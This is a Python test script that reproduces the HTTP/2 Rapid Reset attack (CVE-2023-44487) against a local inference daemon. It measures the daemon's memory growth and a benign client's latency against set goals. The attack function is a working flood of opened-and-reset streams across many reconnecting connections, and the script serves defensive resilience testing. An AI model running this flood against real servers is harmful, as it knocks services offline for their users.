#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487): calls opened and reset at once on many connections, which come again when told to go.

Printed: what the daemon's resident memory grew by (goal: 20 MB), and how long an honest call takes meanwhile that asks
ten times a second whether the server lives (goal: 10 ms).

Needs the Python packages of tests/e2e. Usage: rapid_reset.py [--connections N] [--seconds S]
"""

import argparse
import itertools
import multiprocessing
import pathlib
import selectors
import socket
import struct
import sys
import time

import hpack

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tests" / "e2e"))
import daemon as e2e  # noqa: E402
from http2_frames import HEADERS, PREFACE, frame  # noqa: E402

CALLS = 16_000  # of one connection: more than it is allowed
FIELDS = [(":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ServerLive"),
          (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]


def opened_and_reset(heads):
    return PREFACE + b"".join(frame(1, 4, stream, head) + frame(3, 0, stream, struct.pack(">I", 8))
                              for stream, head in zip(range(1, 2 * CALLS, 2), heads))


def indexed_heads():
    """The first entered into HPACK's table, to which the others refer: as many calls in a byte as can be."""
    encoder = hpack.Encoder()
    while True:
        yield encoder.encode(FIELDS)


def attack(port, connections, end):
    """Sends as much as each connection takes, and reads nothing but their ends."""
    floods = itertools.cycle([opened_and_reset(itertools.repeat(HEADERS)), opened_and_reset(indexed_heads())])
    selector = selectors.DefaultSelector()

    def connect():
        client = socket.create_connection(("127.0.0.1", port))
        client.setblocking(False)
        selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [memoryview(next(floods))])

    def again(client):
        selector.unregister(client)
        client.close()
        connect()

    for _ in range(connections):
        connect()
    while time.monotonic() < end:
        for key, events in selector.select(0.1):
            left = key.data
            try:
                if events & selectors.EVENT_READ and not key.fileobj.recv(65536):
                    again(key.fileobj)
                elif events & selectors.EVENT_WRITE and left[0]:
                    left[0] = left[0][key.fileobj.send(left[0][:65536]):]
            except BlockingIOError:
                pass
            except OSError:
                again(key.fileobj)


class HonestClient:
    """Calls, one after another, on a connection of its own."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(PREFACE)
        self.stream, self.received = -1, b""

    def milliseconds_of_a_call(self):
        self.stream += 2
        begin = time.monotonic()
        self.socket.sendall(frame(1, 4, self.stream, HEADERS) + frame(0, 1, self.stream, bytes(5)))
        while True:
            kind, flags, stream = self.next_frame()
            if (kind, stream) == (1, self.stream) and flags & 1:
                return (time.monotonic() - begin) * 1e3

    def next_frame(self):
        while True:
            if len(self.received) >= 9:
                length = int.from_bytes(self.received[:3], "big")
                if len(self.received) >= 9 + length:
                    kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
                    self.received = self.received[9 + length:]
                    return kind, flags, stream
            more = self.socket.recv(65536)
            assert more, "the honest client's connection was closed"
            self.received += more


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=60)
    arguments = parser.parse_args()
    daemon = e2e.embedded()
    resident = lambda: daemon.resident_bytes() / (1 << 20)
    honest = HonestClient(daemon.grpc_port)
    for _ in range(100):
        honest.milliseconds_of_a_call()
    time.sleep(5)  # its models have warmed up
    before = most = resident()
    end = time.monotonic() + arguments.seconds
    attacker = multiprocessing.Process(target=attack, args=(daemon.grpc_port, arguments.connections, end))
    attacker.start()
    times = []
    while time.monotonic() < end:
        times.append(honest.milliseconds_of_a_call())
        most = max(most, resident())
        time.sleep(0.1)
    attacker.join()
    daemon.close()
    times.sort()
    print(f"{arguments.connections} connections, {arguments.seconds:.0f} s: memory {before:.1f} MB, at most "
          f"{most - before:.1f} more; {len(times)} honest calls: median {times[len(times) // 2]:.2f} ms, "
          f"p99 {times[len(times) * 99 // 100]:.2f}, longest {times[-1]:.2f}")


if __name__ == "__main__":
    main()
